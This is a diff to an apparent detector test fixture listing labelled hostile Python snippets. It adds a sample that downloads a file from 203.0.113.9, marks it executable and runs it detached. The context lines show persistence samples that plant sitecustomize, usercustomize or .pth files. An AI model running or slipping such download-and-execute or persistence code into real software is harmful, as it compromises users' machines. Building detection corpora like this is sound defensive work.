@@ -83,6 +83,10 @@ BATCH = Path(__file__).parent / "corpus" / "batch-2026-11-22-code-4.jsonl"
     ("import site\nfrom pathlib import Path\nPath(site.USER_SITE, 'usercustomize.py').write_text(p)", "persistence"),
     ("import site, shutil\nshutil.copyfile('evil.pth', site.getusersitepackages() + '/evil.pth')", "persistence"),
     ("import site, os\nos.replace('sitecustomize.py', site.getsitepackages()[0])", "persistence"),
+    # a download to a path kept in a name, then run (the ninth session's held-out code batch)
+    ("import urllib.request, os, subprocess, tempfile\npath = os.path.join(tempfile.gettempdir(), '.h')\n"
+     "urllib.request.urlretrieve('http://203.0.113.9/b', path)\nos.chmod(path, 0o755)\n"
+     "subprocess.Popen([path], start_new_session=True)", "download-exec"),
     # the path kept in a name first (the ninth session's held-out code batch)
     ("import site, os\np = os.path.join(site.getusersitepackages(), 'sitecustomize.py')\nwith open(p, 'a') as f:\n"
      "    f.write('import os')", "persistence"),
